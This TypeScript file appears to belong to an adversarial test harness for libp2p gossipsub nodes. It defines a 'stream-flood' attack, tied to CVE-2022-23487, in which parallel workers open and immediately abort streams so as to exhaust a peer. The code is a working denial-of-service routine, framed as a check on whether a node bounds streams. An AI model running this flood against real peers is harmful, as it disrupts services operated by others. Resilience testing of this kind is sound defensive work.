import { sleep } from "../../../../base/clock.ts";
import type { Attack } from "../../attack.ts";
import { MESHSUB_11 } from "../../raw_peer.ts";

const PARALLEL = 8;
const RETRY_MS = 5;

export const streamFlood: Attack = {
  name: "stream-flood",
  group: "below",
  what: "Opens gossip streams as fast as they are negotiated, and closes each at once.",
  source: "CVE-2022-23487",
  sound: "Bounds streams, and hangs up on the churn.",
  hangsUp: true,
  async run({ clock, signal, join, count, note }) {
    const peer = await join();
    if (peer === null) return;
    let opened = 0;
    const worker = async () => {
      while (peer.isConnected && !signal.aborted) {
        try {
          const stream = await peer.connection.newStream(MESHSUB_11, { signal, maxOutboundStreams: 10_000 });
          stream.abort(new Error("churn"));
          opened++;
          count({ rpcs: 1, bytes: 64 });
        } catch {
          // A refusal may come within the same turn of the event loop: without a pause nothing else would run.
          await sleep(clock, RETRY_MS, signal);
        }
      }
    };
    await Promise.all(Array.from({ length: PARALLEL }, worker));
    note("opened", opened);
  },
};
